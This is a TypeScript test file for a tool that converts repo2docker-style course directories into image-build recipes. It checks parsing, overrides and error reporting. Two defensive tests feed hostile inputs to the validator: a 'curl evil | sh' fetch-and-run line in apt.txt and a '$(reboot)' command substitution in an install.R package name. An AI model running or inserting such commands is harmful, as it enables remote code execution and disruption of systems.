import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { recipeFromRepo2docker } from '../../../layers/core/recipe/repo2docker';
import { parseRecipe } from '../../../layers/core/recipe/schema';
import { loadRecipe } from '../../../local/recipe-files';
import { EXAMPLES, issuesOf, pathsOf } from './support';

const settings = 'name: course-env\nbaseImage: ami-0123456789abcdef0\n';

function scratchDirectory(files: Record<string, string>): string {
  const root = mkdtempSync(join(tmpdir(), 'bakehouse-repo-'));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(root, name, '..'), { recursive: true });
    writeFileSync(join(root, name), text);
  }
  return root;
}

describe('recipeFromRepo2docker', () => {
  it('turns the intro-python directory into its recipe, with the whole repository for the home', async () => {
    // Prepare
    const yaml = `
name: intro-python
baseImage: /aws/service/debian/release/12/latest/amd64
builder: { instanceType: t3.medium, timeoutMinutes: 45 }
tags: { course: intro-python }
jupyter: { flavour: lab }
environment:
  apt: [graphviz, fonts-dejavu-core]
  requirements: |
    numpy>=1.26
    pandas>=2.1
    matplotlib
    seaborn
    graphviz
  postBuildAs: user
test:
  commands: |
    python -c 'import pandas, seaborn'
    test -s data/line.csv
`;
    const postBuild = readFileSync(join(EXAMPLES, 'intro-python', 'postBuild'), 'utf8');

    // Act
    const fromDirectory = await loadRecipe(join(EXAMPLES, 'intro-python'));

    // Assess
    const { repository, ...rest } = fromDirectory;
    const expected = parseRecipe(yaml);
    expect(rest).toEqual({ ...expected, environment: { ...expected.environment, postBuild } });
    expect(repository?.configDir).toBe('');
    expect(Object.keys(repository?.files ?? {})).toEqual([
      '01-basics.ipynb',
      'README.md',
      'apt.txt',
      'bakehouse.yaml',
      'postBuild',
      'requirements.txt',
    ]);
    expect(repository?.files.postBuild?.executable).toBe(true);
  });

  it('maps repo2docker files to the environment: environment.yml over requirements.txt, install.R only with R', () => {
    // Prepare
    const files = {
      'bakehouse.yaml': settings,
      'apt.txt': '# tools\njq\n\n  curl   # for downloads\n',
      'requirements.txt': 'numpy\n',
      'environment.yml': 'dependencies:\n  - python=3.12\n',
      'install.R': 'install.packages("ggplot2")\nBiocManager::install("limma")\n',
      postBuild: 'echo done\n',
      'README.md': 'not configuration: ignored',
    };

    // Act
    const recipe = recipeFromRepo2docker(files);

    // Assess
    expect(recipe.environment).toEqual({
      apt: ['jq', 'curl'],
      pip: [],
      conda: 'dependencies:\n  - python=3.12\n',
      r: { cran: [], bioconductor: [], kernel: false, installRepository: false },
      postBuild: 'echo done\n',
      postBuildAs: 'root',
    });
    expect(recipe.jupyter.source).toBe('conda');
  });

  it('takes fields from the base and lets bakehouse.yaml override them', () => {
    // Act
    const recipe = recipeFromRepo2docker(
      { 'bakehouse.yaml': 'baseImage: ami-0123456789abcdef0\nuser: learner\n' },
      { name: 'from-directory', user: 'student', region: 'eu-west-1' },
    );

    // Assess
    expect(recipe).toMatchObject({ name: 'from-directory', user: 'learner', region: 'eu-west-1' });
  });

  it('reports a line of apt.txt that is not a package by its number', () => {
    // Act
    const issues = issuesOf(() =>
      recipeFromRepo2docker({ 'bakehouse.yaml': settings, 'apt.txt': 'jq\ncurl evil | sh\n' }),
    );

    // Assess
    expect(issues).toEqual([
      { path: 'apt.txt', message: expect.stringMatching(/^line 2: "curl evil \| sh"/) },
    ]);
  });

  it('reports an install.R it cannot read safely, with the line', () => {
    // Act
    const issues = issuesOf(() =>
      recipeFromRepo2docker({
        'bakehouse.yaml': settings,
        'runtime.txt': 'r-4.3-2024-01-15\n',
        'install.R': 'install.packages("a1")\nsource("setup.R")\n',
      }),
    );

    // Assess
    expect(issues).toEqual([{ path: 'install.R', message: expect.stringContaining('line 2') }]);
  });

  it('reports a package name from install.R that the schema refuses at its field', () => {
    // Act
    const paths = pathsOf(() =>
      recipeFromRepo2docker({
        'bakehouse.yaml': settings,
        'runtime.txt': 'r-2024-01-15',
        'install.R': 'install.packages("$(reboot)")',
      }),
    );

    // Assess
    expect(paths).toEqual(['environment.r.cran[0]']);
  });

  it('refuses repo2docker configuration it cannot honour, naming each file', () => {
    // Act
    const paths = pathsOf(() =>
      recipeFromRepo2docker({
        'bakehouse.yaml': settings,
        'Project.toml': '[deps]\n',
        start: '#!/bin/bash\nexec "$@"\n',
        Dockerfile: 'FROM x',
      }),
    );

    // Assess
    expect(paths.sort()).toEqual(['Dockerfile', 'Project.toml', 'start']);
  });

  it.each([
    ['an environment', `${settings}environment: { apt: [jq] }\n`],
    ['broken YAML', 'name: [oops'],
    ['a list', '- name\n'],
  ])('refuses a bakehouse.yaml holding %s', (_what, text) => {
    // Act
    const paths = pathsOf(() => recipeFromRepo2docker({ 'bakehouse.yaml': text }));

    // Assess
    expect(paths).toEqual(['bakehouse.yaml']);
  });

  it('reports the fields a directory without bakehouse.yaml still lacks', () => {
    // Act
    const paths = pathsOf(() => recipeFromRepo2docker({ 'requirements.txt': 'numpy\n' }));

    // Assess
    expect(paths.sort()).toEqual(['baseImage', 'name']);
  });
});

describe('loadRecipe', () => {
  it('reads a binder/ folder in preference to the top level, and bakehouse.yaml beside it', async () => {
    // Prepare
    const root = scratchDirectory({
      'bakehouse.yaml': settings,
      'apt.txt': 'ignored-because-binder-exists\n',
      'binder/apt.txt': 'jq\n',
    });

    // Act
    const recipe = await loadRecipe(root);

    // Assess
    expect(recipe.name).toBe('course-env');
    expect(recipe.environment.apt).toEqual(['jq']);
  });

  it('names the recipe after its directory when bakehouse.yaml does not', async () => {
    // Prepare
    const root = scratchDirectory({
      'Data Course/bakehouse.yaml': 'baseImage: ami-0123456789abcdef0\n',
    });

    // Act
    const recipe = await loadRecipe(join(root, 'Data Course'));

    // Assess
    expect(recipe.name).toBe('data-course');
  });

  it('says when there is no recipe at the path', async () => {
    // Act
    const loading = loadRecipe(join(tmpdir(), 'no-such-recipe-here.yaml'));

    // Assess
    await expect(loading).rejects.toMatchObject({ name: 'NotFoundError' });
  });
});
